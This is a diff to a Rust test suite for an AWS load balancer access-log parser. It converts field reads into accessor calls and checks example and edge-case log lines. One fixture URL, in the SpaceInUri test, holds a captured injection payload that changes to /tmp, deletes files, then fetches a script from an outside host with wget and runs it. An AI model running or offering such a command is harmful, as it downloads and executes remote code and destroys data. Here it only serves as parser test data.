@@ -37,29 +37,32 @@ fn aws_http_example_field_by_field() {
     assert_eq!(e.elb_status_code, 200);
     assert_eq!(e.target_status_code, Some(200));
     assert_eq!((e.received_bytes, e.sent_bytes), (34, 366));
-    assert_eq!(e.request.verb.expect("verb"), "GET");
-    assert_eq!(e.request.url.expect("url"), "http://www.example.com:80/");
-    assert_eq!(e.request.proto.expect("proto"), "HTTP/1.1");
-    assert_eq!(e.user_agent.expect("ua"), "curl/7.46.0");
-    assert_eq!((e.ssl_cipher, e.ssl_protocol), (None, None));
+    assert_eq!(e.request().verb.expect("verb"), "GET");
+    assert_eq!(e.request().url.expect("url"), "http://www.example.com:80/");
+    assert_eq!(e.request().proto.expect("proto"), "HTTP/1.1");
+    assert_eq!(e.user_agent().expect("ua"), "curl/7.46.0");
+    assert_eq!((e.ssl_cipher(), e.ssl_protocol()), (None, None));
     assert_eq!(e.target_group_name().expect("tg"), "my-targets");
     assert_eq!(
-        e.trace_id.expect("trace"),
+        e.trace_id().expect("trace"),
         "Root=1-58337262-36d228ad5d99923122bbe354"
     );
-    assert_eq!((e.domain_name, e.chosen_cert_arn), (None, None));
-    assert_eq!(e.matched_rule_priority.expect("prio"), "0");
+    assert_eq!((e.domain_name(), e.chosen_cert_arn()), (None, None));
+    assert_eq!(e.matched_rule_priority().expect("prio"), "0");
     assert_eq!(e.request_creation_time, Some(1_530_570_168_364_000));
     assert_eq!(e.elapsed_us(), Some(11_822_641));
     assert_eq!(e.actions().collect::<Vec<_>>(), vec![Text::new(b"forward")]);
-    assert_eq!((e.redirect_url, e.error_reason), (None, None));
-    assert_eq!(e.target_port_list.expect("list"), "10.0.0.1:80");
-    assert_eq!(e.target_status_code_list.expect("list"), "200");
-    assert_eq!((e.classification, e.classification_reason), (None, None));
-    assert_eq!(e.conn_trace_id.expect("tid"), "TID_1234abcd5678ef90");
-    assert_eq!(e.request_transform_status, None);
-    assert_eq!(e.field_count, 33);
-    assert_eq!(e.ip_address, None);
+    assert_eq!((e.redirect_url(), e.error_reason()), (None, None));
+    assert_eq!(e.target_port_list().expect("list"), "10.0.0.1:80");
+    assert_eq!(e.target_status_code_list().expect("list"), "200");
+    assert_eq!(
+        (e.classification(), e.classification_reason()),
+        (None, None)
+    );
+    assert_eq!(e.conn_trace_id().expect("tid"), "TID_1234abcd5678ef90");
+    assert_eq!(e.request_transform_status(), None);
+    assert_eq!(e.field_count(), 33);
+    assert_eq!(e.ip_address(), None);
 }
 
 #[test]
@@ -69,14 +72,17 @@ fn aws_https_example_with_auth_and_rewrite() {
     assert_eq!(e.request_processing_time, Some(86_000));
     assert_eq!(e.target_processing_time, Some(48_000));
     assert_eq!(e.response_processing_time, Some(37_000));
-    assert_eq!(e.ssl_cipher.expect("cipher"), "ECDHE-RSA-AES128-GCM-SHA256");
-    assert_eq!(e.ssl_protocol.expect("proto"), "TLSv1.2");
-    assert_eq!(e.domain_name.expect("sni"), "www.example.com");
+    assert_eq!(
+        e.ssl_cipher().expect("cipher"),
+        "ECDHE-RSA-AES128-GCM-SHA256"
+    );
+    assert_eq!(e.ssl_protocol().expect("proto"), "TLSv1.2");
+    assert_eq!(e.domain_name().expect("sni"), "www.example.com");
     assert!(e.has_action("authenticate") && e.has_action("forward"));
     assert_eq!(e.last_action().expect("last"), "forward");
-    assert_eq!(e.transformed_host.expect("host"), "m.example.com");
+    assert_eq!(e.transformed_host().expect("host"), "m.example.com");
     assert_eq!(
-        e.request_transform_status.expect("status"),
+        e.request_transform_status().expect("status"),
         "TransformSuccess"
     );
 }
@@ -85,21 +91,21 @@ fn aws_https_example_with_auth_and_rewrite() {
 fn aws_h2_ws_wss_and_lambda_examples() {
     assert_eq!(parse(example(2)).conn_type, ConnType::H2);
     assert_eq!(
-        parse(example(2)).redirect_url.expect("redirect"),
+        parse(example(2)).redirect_url().expect("redirect"),
         "https://example.com:80/"
     );
     let ws = parse(example(3));
     assert_eq!((ws.conn_type, ws.elb_status_code), (ConnType::Ws, 101));
-    assert_eq!(ws.user_agent, None);
+    assert_eq!(ws.user_agent(), None);
     assert_eq!(parse(example(4)).conn_type, ConnType::Wss);
     let lambda_ok = parse(example(5));
     assert_eq!(lambda_ok.target, None);
     assert_eq!(lambda_ok.target_status_code, Some(200));
-    assert_eq!(lambda_ok.target_status_code_list, None);
+    assert_eq!(lambda_ok.target_status_code_list(), None);
     let lambda_err = parse(example(6));
     assert_eq!(lambda_err.target_status_code, None);
     assert_eq!(
-        lambda_err.error_reason.expect("reason"),
+        lambda_err.error_reason().expect("reason"),
         "LambdaInvalidResponse"
     );
 }
@@ -107,7 +113,7 @@ fn aws_h2_ws_wss_and_lambda_examples() {
 #[test]
 fn observed_malformed_request_with_all_36_fields() {
     let e = parse(example(7));
-    assert_eq!(e.field_count, 36);
+    assert_eq!(e.field_count(), 36);
     assert_eq!(e.target, None);
     assert_eq!(
         (
@@ -118,16 +124,16 @@ fn observed_malformed_request_with_all_36_fields() {
         (None, None, None)
     );
     assert_eq!(e.elb_status_code, 400);
-    assert_eq!(e.request.verb, None);
+    assert_eq!(e.request().verb, None);
     assert_eq!(
-        e.request.url.expect("url"),
+        e.request().url.expect("url"),
         "http://k8s-tileserver-617dd1df30-606955064.us-east-1.elb.amazonaws.com:80-"
     );
-    assert_eq!(e.request.proto, None);
-    assert_eq!(e.target_group_arn, None);
-    assert_eq!(e.actions_executed, None);
-    assert_eq!(e.ip_address.expect("ip"), "100.51.96.60");
-    assert_eq!((e.target_error_code, e.elb_error_code), (None, None));
+    assert_eq!(e.request().proto, None);
+    assert_eq!(e.target_group_arn(), None);
+    assert_eq!(e.actions_executed(), None);
+    assert_eq!(e.ip_address().expect("ip"), "100.51.96.60");
+    assert_eq!((e.target_error_code(), e.elb_error_code()), (None, None));
 }
 
 #[test]
@@ -143,24 +149,24 @@ fn every_edge_case_fixture_parses() {
 fn raw_spaces_in_the_url_stay_in_the_url() {
     let e = parse(EDGE_CASES.lines().next().expect("SpaceInUri line"));
     assert_eq!(
-        e.request.url.expect("url"),
+        e.request().url.expect("url"),
         "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
     );
-    assert_eq!(e.request.proto.expect("proto"), "HTTP/1.1");
-    assert_eq!(e.classification_reason.expect("reason"), "SpaceInUri");
-    assert_eq!(e.user_agent.expect("ua"), "Hello, world");
+    assert_eq!(e.request().proto.expect("proto"), "HTTP/1.1");
+    assert_eq!(e.classification_reason().expect("reason"), "SpaceInUri");
+    assert_eq!(e.user_agent().expect("ua"), "Hello, world");
 }
 
 #[test]
 fn escapes_are_kept_raw_and_decoded_on_request() {
     let e = parse(EDGE_CASES.lines().nth(1).expect("escape line"));
-    let url = e.request.url.expect("url");
+    let url = e.request().url.expect("url");
     assert_eq!(url, r"https://api.example.com:443/search?q=\x22quoted\x22");
     assert_eq!(
         &*url.decoded(),
         br#"https://api.example.com:443/search?q="quoted""#
     );
-    let ua = e.user_agent.expect("ua");
+    let ua = e.user_agent().expect("ua");
     assert_eq!(ua, r#"Agent \"with quotes\" inside"#);
     assert_eq!(&*ua.decoded(), br#"Agent "with quotes" inside"#);
 }
@@ -178,9 +184,9 @@ fn ipv6_addresses_split_on_the_last_colon() {
 fn fields_35_and_36_with_values_quoted_or_bare() {
     let quoted = parse(EDGE_CASES.lines().nth(3).expect("quoted 35/36"));
     assert_eq!(quoted.elb_status_code, 0);
-    assert_eq!(quoted.target_error_code.expect("tec"), "0x8");
+    assert_eq!(quoted.target_error_code().expect("tec"), "0x8");
     let bare = parse(EDGE_CASES.lines().nth(4).expect("bare 35/36"));
-    assert_eq!(bare.elb_error_code.expect("eec"), "0x2");
+    assert_eq!(bare.elb_error_code().expect("eec"), "0x2");
 }
 
 #[test]
@@ -205,11 +211,11 @@ fn short_lines_of_older_formats() {
     // Fields 1-12 are single tokens; field 13 (the request line) spans three.
     let first12 = fields[..12].join(" ");
     let e = parse(&first12);
-    assert_eq!(e.field_count, 12);
+    assert_eq!(e.field_count(), 12);
     assert_eq!(e.sent_bytes, 366);
-    assert_eq!(e.request, RequestLine::default());
+    assert_eq!(e.request(), RequestLine::default());
     let with_ua = format!("{first12} \"GET http://x:80/ HTTP/1.1\" \"curl\"");
-    assert_eq!(parse(&with_ua).field_count, 14);
+    assert_eq!(parse(&with_ua).field_count(), 14);
     let eleven = fields[..11].join(" ");
     assert_eq!(kind(eleven.as_bytes()), ErrorKind::TooFewFields);
 }
